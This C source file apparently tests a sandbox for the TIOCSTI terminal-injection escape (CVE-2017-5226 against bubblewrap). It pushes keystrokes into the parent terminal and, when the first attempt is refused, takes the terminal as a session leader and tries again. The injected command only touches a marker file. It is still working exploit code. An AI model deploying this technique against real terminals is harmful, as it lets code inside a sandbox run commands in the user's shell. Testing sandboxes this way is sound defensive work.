/* tiocsti: push keystrokes into the terminal the sandbox was started from
 * (its stdin), so the user's shell runs them once the sandbox exits
 * (CVE-2017-5226 against bubblewrap).  TIOCSTI needs the terminal to be
 * the caller's controlling terminal unless it has CAP_SYS_ADMIN: when
 * refused, a child makes itself a session leader and takes the terminal
 * with TIOCSCTTY first. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "targets.h"

static int push(const char *keys)
{
	for (; *keys; keys++)
		if (ioctl(0, TIOCSTI, keys) < 0)
			return -1;
	return 0;
}

int main(int argc, char **argv)
{
	char keys[1200];
	pid_t pid;

	targets_load(argc, argv);
	snprintf(keys, sizeof(keys), "touch %s\n", target("T_MARKER"));
	if (push(keys) == 0)
		return 0;
	perror("TIOCSTI");
	pid = fork();
	if (pid == 0) {
		if (setsid() < 0 || ioctl(0, TIOCSCTTY, 0) < 0)
			perror("taking the terminal");
		if (push(keys) < 0)
			perror("TIOCSTI as session leader");
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return 0;
}
